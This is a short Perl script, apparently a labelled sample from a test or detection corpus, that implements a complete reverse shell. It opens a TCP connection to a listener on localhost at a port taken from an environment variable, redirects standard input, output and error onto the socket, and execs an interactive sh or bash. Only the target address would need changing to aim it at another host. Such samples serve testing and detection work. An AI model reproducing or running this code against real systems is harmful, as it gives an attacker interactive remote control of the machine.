#!/usr/bin/perl
# family: reverse-shell
# needs: listener
# actors: perl|sh|dash|bash
# Perl reverse shell: socket, connect, reopen STDIN/STDOUT/STDERR on it, exec /bin/sh -i.
use Socket;
srand($ENV{PG_SEED});
select(undef, undef, undef, rand(0.4));
socket(S, PF_INET, SOCK_STREAM, getprotobyname("tcp")) or die;
connect(S, sockaddr_in($ENV{PG_PORT}, inet_aton("127.0.0.1"))) or die "connect: $!";
open(STDIN, ">&S"); open(STDOUT, ">&S"); open(STDERR, ">&S");
my @sh = ("/bin/sh", "/bin/bash");
my $sh = $sh[int(rand(2))];
exec($sh, "-i");
